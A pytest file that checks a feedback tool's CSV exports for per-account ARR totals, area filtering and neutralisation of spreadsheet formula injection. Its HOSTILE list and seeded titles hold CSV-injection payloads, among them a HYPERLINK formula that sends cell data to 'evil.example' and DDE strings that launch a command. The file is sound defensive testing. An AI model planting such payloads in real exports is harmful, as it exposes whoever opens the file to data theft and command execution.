"""CSV exports: distinct-account ARR, area filter, and CSV-injection neutralisation, read back
with pandas (SQLite and PostgreSQL)."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from gtm_feedback_dagster.requests.export import (
    FORMULA_PREFIXES,
    feedback_frame,
    neutralise,
    requests_frame,
    write_csv,
)
from gtm_feedback_dagster.store import repo
from gtm_feedback_dagster.store.db import engine_for, session_scope
from gtm_feedback_dagster.store.schema import Account, Request
from tests.intake.seed import seed_url

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read(csv_text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)


def _seed(url: str) -> None:
    seed_url(url)
    with session_scope(url) as session:
        request = repo.resolve_request(session, "dark-mode")
        request.title = "=cmd|' /C calc'!A0"
        acme = repo.resolve_account(session, "Acme")
        globex = repo.resolve_account(session, "Globex")
        for i, text in enumerate(HOSTILE):
            repo.add_feedback(
                session,
                {
                    "source": "cli",
                    "customer_pain": text,
                    "severity": "medium",
                    "account_id": (acme if i % 2 == 0 else globex).id,
                    "status": "routed",
                    "request_id": request.id,
                    "match_type": "manual",
                },
            )
        session.add(Account(name="@evil corp", arr=7.0))


def _csv(frame: pd.DataFrame) -> str:
    out = io.StringIO()
    write_csv(frame, out)
    return out.getvalue()


def test_requests_export_counts_each_account_once_and_neutralises(db_url: str) -> None:
    _seed(db_url)
    with engine_for(db_url).connect() as conn:
        frame = requests_frame(conn)
        in_area = requests_frame(conn, "dashboards")
        other_area = requests_frame(conn, "integrations")
    back = _read(_csv(frame))
    row = back.loc[back["slug"] == "dark-mode"].iloc[0]
    assert row["title"] == "'=cmd|' /C calc'!A0"
    assert (row["entries"], row["accounts"]) == ("6", "2")
    assert float(row["arr"]) == 150_000.0  # Acme 100k + Globex 50k, each once for 6 entries
    assert row["areas"] == "dashboards"
    assert list(in_area["slug"]) == ["dark-mode"]
    assert other_area.empty


def test_feedback_export_round_trips_with_every_hostile_cell_neutralised(
    db_url: str, tmp_path: Path
) -> None:
    _seed(db_url)
    with engine_for(db_url).connect() as conn:
        frame = feedback_frame(conn)
    path = tmp_path / "feedback.csv"
    assert write_csv(frame, path) == len(frame) == len(HOSTILE)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(back["customer_pain"]) == ["'" + text for text in HOSTILE]
    assert set(back["account"]) == {"Acme", "Globex"}
    assert set(back["request_title"]) == {"'=cmd|' /C calc'!A0"}
    for column in back.columns:
        for cell in back[column]:
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    with session_scope(db_url) as session:  # the stored data is untouched
        title = session.query(Request.title).filter(Request.slug == "dark-mode").scalar()
    assert title == "=cmd|' /C calc'!A0"


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"arr": [-5.0, 1.5], "text": ["-5", "ok"]})
    back = _read(_csv(frame))
    assert list(back["arr"]) == ["-5.0", "1.5"]
    assert list(back["text"]) == ["'-5", "ok"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_any_text_cell_reads_back_neutralised(cells: list[str]) -> None:
    # One column only here, so a whitespace-only cell makes a line pandas would skip as blank
    # (the exports have many columns: their rows always hold commas).
    back = pd.read_csv(
        io.StringIO(_csv(pd.DataFrame({"cell": cells}))),
        dtype=str,
        keep_default_na=False,
        skip_blank_lines=False,
    )
    expected = [neutralise(c) for c in cells]
    assert list(back["cell"]) == expected
    assert not any(str(c).startswith(FORMULA_PREFIXES) for c in expected)
